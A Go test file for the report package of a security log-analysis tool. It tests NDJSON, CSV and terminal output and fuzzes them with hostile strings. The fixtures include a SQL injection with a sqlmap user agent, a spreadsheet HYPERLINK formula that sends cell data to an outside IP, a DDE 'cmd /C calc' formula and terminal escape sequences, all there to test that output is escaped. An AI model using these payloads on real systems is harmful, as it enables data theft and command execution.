package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/tiercel/tiercel/core"
	"github.com/tiercel/tiercel/core/event"
	"github.com/tiercel/tiercel/core/written"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// golden compares with a file of testdata.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs; go test -update rewrites it. Got:\n%s", path, got)
	}
}

const second = int64(1e9)

// morning is 2026-01-29T10:01:02.123Z.
const morning = 1769680862*second + 123e6

func names(event.Kind) []string { return []string{"trees", "ngram", "rarity"} }

func threat() *core.Verdict {
	return &core.Verdict{
		Line: 18, Record: 17, Kind: event.HTTP, Time: morning, Score: 0.9731, FalseAlarmRate: 0.00004, Threat: true,
		Severity: core.SeverityHigh, Class: "sqli", Technique: []string{"T1190"}, Entity: []byte("203.0.113.9"), Incident: 3, Missing: 4,
		Certified: core.Certificate{Insertions: 4, Learners: 1, Padding: true},
	}
}

func explanation() *core.Explanation {
	return &core.Explanation{
		Kind: event.HTTP,
		Fields: []core.Field{
			{Name: "source.ip", Value: "203.0.113.9"},
			{Name: "http.request.method", Value: "GET"},
			{Name: "url.original", Value: "/item.php?id=1%2527%2520UNION%2520SELECT%2520username%252Cpassword%2520FROM%2520users--%2520-&page=2"},
			{Name: "http.response.status_code", Value: "500"},
		},
		Values: []core.TextValue{
			{Origin: "path", Raw: "/item.php", Decoded: "/item.php"},
			{Origin: "query", Name: "id", Raw: "1%2527...", Decoded: "1' union select username,password from users-- -", Levels: 2, Marks: [][2]int{{1, 15}, {44, 48}}},
			{Origin: "query", Name: "名前", Raw: "%E5", Decoded: strings.Repeat("x", 300) + "日本\x1b[2J<script>", Levels: 1, Marks: [][2]int{{300, 310}}},
		},
		Features: []core.Feature{
			{Name: "value_length_max", Value: 48},
			{Name: "entropy", Value: 3.91234},
			{Name: "percent_share", Value: 0.00021},
			{Name: "status_5xx", Value: 1},
			{Name: "absent", Value: math.NaN()},
			{Name: "zero", Value: 0},
			{Name: "requests_1m", Value: 12.25, Context: true},
			{Name: "paths_1h", Value: 1234567.5, Context: true},
		},
		Learners: []core.LearnerPart{
			{ID: "trees", Raw: 4.125, P: 0.981, Tail: 0.0002, Cost: 812, Reasons: []core.Reason{{Text: "value_length_max", Weight: 1.5}, {Text: "entropy", Weight: -0.2}}},
			{ID: "ngram", Class: "sqli", Raw: 7.5, P: 0.9991, Tail: 0.00001, Cost: 240, Reasons: []core.Reason{{Text: `"union select" in query id`, Weight: 3.25}}},
			{ID: "rarity", Raw: math.NaN(), P: math.NaN(), Tail: math.NaN(), Missing: true},
			{ID: "isolation", Raw: 0.41, P: 0.2, Tail: 0.3, Cost: 55, Reasons: []core.Reason{{Text: "noise", Weight: 0.1}}},
		},
		Metas: []core.MetaPart{
			{Name: "stack", Score: 0.9812, Weights: []float64{0.5, 0.5, 0, 0}, Beta: 0.75},
			{Name: "fisher", Score: 0.95, Weights: []float64{0.333, 0.333, 0, 0.334}, Beta: 0.25},
		},
		Score: 0.9731, FalseAlarmRate: 0.00004, Threat: true, Severity: core.SeverityHigh, Class: "sqli", Technique: []string{"T1190"},
		Certified: core.Certificate{Insertions: 4, Learners: 1, Padding: true},
	}
}

func incidents() []core.Incident {
	return []core.Incident{
		{
			ID: 3, Kind: event.HTTP, Entity: "203.0.113.9", Class: "sqli", Technique: []string{"T1190"}, Severity: core.SeverityCritical,
			First: morning, Last: morning + 391*second, Count: 1042, File: "access.log", Line: 18,
			Certified: core.Certificate{Insertions: 4, Learners: 1, Padding: true},
			Sample:    `203.0.113.9 - - [29/Jan/2026:10:01:02 +0000] "GET /item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1" 500 1290 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"`,
			Why:       `ngram: "union select" in query id; trees: value_length_max`,
		},
		{
			ID: 1, Kind: event.Auth, Entity: "2001:db8:85a3:8d3:1319:8a2e:370:7348", Class: "credential-stuffing", Technique: []string{"T1110.004"},
			Severity: core.SeverityMedium, First: morning, Last: morning + 86400*second, Count: 7, File: "/var/log/auth.log.1.gz", Line: 123456,
			Sample: "evil \x1b[31mred\x1b[0m \u202etxt.exe\u202c zero\u200bwidth \xff byte\ttab", Why: "",
		},
		{ID: 2, Kind: event.DNS, Severity: core.SeverityLow, Class: "anomaly", First: event.NoTime, Last: event.NoTime, Count: 1, File: "names.txt", Line: 4, Sample: "日本語の名前.example"},
	}
}

func TestTableIsReadable(t *testing.T) {
	for _, c := range []struct {
		name  string
		list  []core.Incident
		top   int
		style Style
	}{
		{"table-80.txt", incidents(), 0, Style{}},
		{"table-120-colour.txt", incidents(), 0, Style{Width: 120, Colour: true}},
		{"table-top.txt", incidents(), 1, Style{}},
		{"table-none.txt", nil, 0, Style{}},
	} {
		t.Run(c.name, func(t *testing.T) {
			var b bytes.Buffer
			detail := func(id uint64) string {
				if id == 3 && c.style.Width == 120 {
					return Brief(explanation())
				}
				return ""
			}
			if err := Incidents(&b, c.list, c.top, detail, c.style); err != nil {
				t.Fatal(err)
			}
			golden(t, c.name, b.Bytes())
			checkLines(t, b.String(), max(c.style.Width, defaultWidth))
		})
	}
}

func TestExplanationIsReadable(t *testing.T) {
	sub := &Subject{
		File: "access.log", Format: "combined", Line: 18, Record: 17, Time: morning, Entity: "203.0.113.9", Budget: 1e-3,
		Raw: incidents()[0].Sample,
	}
	for _, c := range []struct {
		name string
		x    *core.Explanation
		err  error
	}{
		{"explain.txt", explanation(), nil},
		{"explain-unread.txt", nil, event.ErrJSON},
	} {
		t.Run(c.name, func(t *testing.T) {
			var b bytes.Buffer
			sub.Unread = c.err
			if err := Explain(&b, sub, c.x, Style{}); err != nil {
				t.Fatal(err)
			}
			golden(t, c.name, b.Bytes())
			checkLines(t, b.String(), defaultWidth)
		})
	}
}

// checkLines holds what every terminal output must keep.
func checkLines(t *testing.T, out string, columns int) {
	t.Helper()
	if !strings.HasSuffix(out, "\n") || strings.HasSuffix(out, "\n\n\n") {
		t.Errorf("does not end with one line end: %q", out[max(0, len(out)-20):])
	}
	for line := range strings.Lines(out) {
		line = strings.TrimSuffix(line, "\n")
		for _, sequence := range []string{"0", "1", "2", "31", "1;31", "33", "34", "32"} {
			line = strings.ReplaceAll(line, "\x1b["+sequence+"m", "")
		}
		if strings.HasSuffix(line, " ") {
			t.Errorf("line ends with spaces: %q", line)
		}
		if n := width(line); n > columns {
			t.Errorf("line takes %d columns of %d: %q", n, columns, line)
		}
		for i := range len(line) {
			if line[i] < 0x20 || line[i] == 0x7f {
				t.Errorf("control byte %#x reaches the terminal: %q", line[i], line)
			}
		}
		if !utf8.ValidString(line) {
			t.Errorf("invalid UTF-8 reaches the terminal: %q", line)
		}
	}
}

func TestNDJSON(t *testing.T) {
	plainEvent := &core.Verdict{Line: 2, Record: 1, Kind: event.DNS, Time: event.NoTime, Score: 0.25, FalseAlarmRate: 0.5}
	unread := &core.Verdict{Line: 3, Record: 2, Err: event.ErrLineTooLong}
	var b bytes.Buffer
	n := NewNDJSON(&b, names)
	for _, row := range []struct {
		v *core.Verdict
		x *core.Explanation
	}{{threat(), nil}, {plainEvent, nil}, {unread, nil}, {threat(), explanation()}} {
		if err := n.Row("access.log", row.v, row.x); err != nil {
			t.Fatal(err)
		}
	}
	if err := n.Flush(); err != nil {
		t.Fatal(err)
	}
	golden(t, "rows.ndjson", b.Bytes())
	for line := range strings.Lines(b.String()) {
		if !json.Valid([]byte(line)) {
			t.Errorf("not JSON: %s", line)
		}
	}
	first, _, _ := strings.Cut(b.String(), "\n")
	want := `{"file":"access.log","line":18,"record":17,"time":"2026-01-29T10:01:02.123Z","kind":"http",` +
		`"score":0.9731,"threat":true,"false_alarm_rate":0.00004,"severity":"high","class":"sqli",` +
		`"technique":["T1190"],"entity":"203.0.113.9","incident":"3","missing":["rarity"],"certified":{"insertions":4,"learners":1,"padding":true}}`
	if first != want {
		t.Errorf("the contract's line is\n%s, got\n%s", want, first)
	}
}

func TestNDJSONAllocatesNothing(t *testing.T) {
	n := NewNDJSON(discard{}, names)
	v := threat()
	v.Missing = 0
	if a := testing.AllocsPerRun(200, func() { n.Row("access.log", v, nil) }); a != 0 {
		t.Errorf("%v allocations a row", a)
	}
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

func TestCSV(t *testing.T) {
	formula := threat()
	formula.Entity = []byte(`=HYPERLINK("http://198.51.100.7/?x="&A1,"click")`)
	unread := &core.Verdict{Line: 3, Record: 2, Err: event.ErrJSON}
	var b bytes.Buffer
	c := NewCSV(&b, names, true)
	for _, v := range []*core.Verdict{threat(), formula, unread} {
		var x *core.Explanation
		if v.Err == nil {
			x = explanation()
		}
		if err := c.Row("-odd, name.log", v, x); err != nil {
			t.Fatal(err)
		}
	}
	c.Flush()
	golden(t, "rows.csv", b.Bytes())
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 || rows[2][11] != "'"+string(formula.Entity) || rows[3][14] != string(event.ErrJSON) || rows[1][0] != "'-odd, name.log" {
		t.Errorf("%q", rows)
	}
}

func TestCSVCells(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"", ""},
		{"plain", "plain"},
		{"a,b", `"a,b"`},
		{`say "x"`, `"say ""x"""`},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", `'\t=1`},
		{"\r=1", `'\r=1`},
		{`=A1,"x"`, `"'=A1,""x"""`},
		{"two\nlines", `two\nlines`},
	} {
		if got := string(appendCell(nil, c.text)); got != c.want {
			t.Errorf("%q: %s, want %s", c.text, got, c.want)
		}
	}
}

func TestVisible(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"plain", "GET /a?b=c", "GET /a?b=c"},
		{"letters of any script", "naïve 日本 مرحبا 😀", "naïve 日本 مرحبا 😀"},
		{"escape sequence", "\x1b[31m", `\x1b[31m`},
		{"eight-bit control sequence", "\u009b31m", `\u009b31m`},
		{"line ends", "a\r\n\tb", `a\r\n\tb`},
		{"bidirectional override", "\u202eexe.txt", `\u202eexe.txt`},
		{"zero width", "pass\u200bword\ufeff", `pass\u200bword\ufeff`},
		{"combining", "e\u0301", `e\u0301`},
		{"tag characters", "\U000e0041", `\U000e0041`},
		{"no UTF-8", "\xff\xc3", `\xff\xc3`},
		{"surrogate", "\xed\xa0\x80", `\xed\xa0\x80`},
		{"delete", "\x7f", `\x7f`},
		{"filler", "\u3164", `\u3164`},
		{"soft hyphen, no-break space", "\u00ad\u00a0", `\u00ad\u00a0`},
	} {
		if got := Visible(c.text); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func TestWrap(t *testing.T) {
	for _, c := range []struct {
		name, text string
		columns    int
		limit      int
		want       []string
	}{
		{"fits", "abc", 10, 3, []string{"abc"}},
		{"nothing", "", 10, 3, nil},
		{"at a space", "alpha beta gamma", 12, 3, []string{"alpha beta", "gamma"}},
		{"inside a word", "abcdefghijkl", 8, 3, []string{"abcdefgh", "ijkl"}},
		{"too long", "abcdefghijklmnopqrstuvwxyz", 8, 2, []string{"abcdefgh", "ijklmno…"}},
		{"wide", "日本語日本語", 8, 3, []string{"日本語日", "本語"}},
	} {
		got := wrap(c.text, c.columns, c.limit)
		if strings.Join(got, "|") != strings.Join(c.want, "|") {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func TestNumbers(t *testing.T) {
	for _, c := range []struct {
		v    float64
		want string
	}{
		{0, "0"},
		{1, "1"},
		{0.9731, "0.9731"},
		{0.00004, "0.00004"},
		{1e-9, "1e-09"},
		{1.0 / 3, "0.3333333333333333"},
		{1e20, "1e+20"},
		{math.NaN(), "null"},
		{math.Inf(1), "null"},
		{-2.5, "-2.5"},
	} {
		if got := string(written.AppendNumber(nil, c.v)); got != c.want {
			t.Errorf("%v: %s, want %s", c.v, got, c.want)
		}
	}
	for n, want := range map[int64]string{0: "0", 999: "999", 1000: "1,000", 1234567: "1,234,567", -1234: "-1,234"} {
		if got := group(n); got != want {
			t.Errorf("%d: %s, want %s", n, got, want)
		}
	}
}

// hostile are texts that have broken renderers before.
var hostile = []string{
	"", "a", "\x00", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\u202e\u2066", "\xff\xfe\xfd", "\xed\xa0\x80", "e\u0301\u0301\u0301",
	"\u200d\ufeff", "日本\x7f", "=cmd|' /C calc'!A0", `"\`, "a,b\"c\r\nd", strings.Repeat("x", 5000), strings.Repeat("\x1b", 300),
}

func FuzzNDJSON(f *testing.F) {
	for _, s := range hostile {
		f.Add(s, 0.5)
	}
	f.Fuzz(func(t *testing.T, text string, number float64) {
		v := threat()
		v.Entity, v.Score, v.Class = []byte(text), number, text
		x := explanation()
		x.Fields[0].Value, x.Values[0].Decoded, x.Features[0].Name = text, text, text
		var b bytes.Buffer
		n := NewNDJSON(&b, names)
		n.Row(text, v, x)
		n.Flush()
		line, rest, _ := strings.Cut(b.String(), "\n")
		if rest != "" {
			t.Fatalf("a verdict took several lines: %q", b.String())
		}
		var row struct{ Entity, File string }
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatalf("%v: %q", err, line)
		}
		if want := strings.ToValidUTF8(text, "\ufffd"); utf8.ValidString(text) && (row.Entity != want || row.File != want) {
			t.Fatalf("%q came back as %q", text, row.Entity)
		}
		noControls(t, line)
	})
}

func FuzzCSV(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		v := threat()
		v.Entity = []byte(text)
		var b bytes.Buffer
		c := NewCSV(&b, names, false)
		c.Row(text, v, nil)
		c.Flush()
		noControls(t, strings.ReplaceAll(b.String(), "\r\n", ""))
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 18 {
			t.Fatalf("%v: %q", err, rows)
		}
		if cell := rows[1][0]; cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Fatalf("a formula: %q", cell)
		}
	})
}

func FuzzTerminal(f *testing.F) {
	for i, s := range hostile {
		f.Add(s, i, i*7)
	}
	f.Fuzz(func(t *testing.T, text string, from, to int) {
		list := incidents()
		list[0].Entity, list[0].Sample, list[0].Why, list[0].File, list[0].Class = text, text, text, text, text
		var b bytes.Buffer
		Incidents(&b, list, 0, func(uint64) string { return text }, Style{})
		checkLines(t, b.String(), defaultWidth)

		x := explanation()
		from, to = min(max(from, 0), len(text)), min(max(to, 0), len(text))
		x.Fields[0].Value, x.Class = text, text
		x.Values[0] = core.TextValue{Name: text, Decoded: text, Marks: [][2]int{{min(from, to), max(from, to)}}}
		x.Features[0].Name, x.Learners[0].ID, x.Learners[1].Reasons[0].Text, x.Metas[0].Name = text, text, text, text
		b.Reset()
		Explain(&b, &Subject{File: text, Raw: text, Entity: text}, x, Style{})
		noControls(t, strings.ReplaceAll(b.String(), "\n", ""))
		b.Reset()
		Explain(&b, &Subject{File: text, Raw: text, Unread: errors.New(text)}, nil, Style{})
		noControls(t, strings.ReplaceAll(b.String(), "\n", ""))
	})
}

func noControls(t *testing.T, s string) {
	t.Helper()
	for _, r := range s {
		if hidden(r) {
			t.Fatalf("%U is not escaped: %q", r, s)
		}
	}
	if !utf8.ValidString(s) {
		t.Fatalf("invalid UTF-8: %q", s)
	}
}

func BenchmarkNDJSON(b *testing.B) {
	n := NewNDJSON(discard{}, names)
	v := threat()
	b.ReportAllocs()
	for b.Loop() {
		n.Row("access.log", v, nil)
	}
}
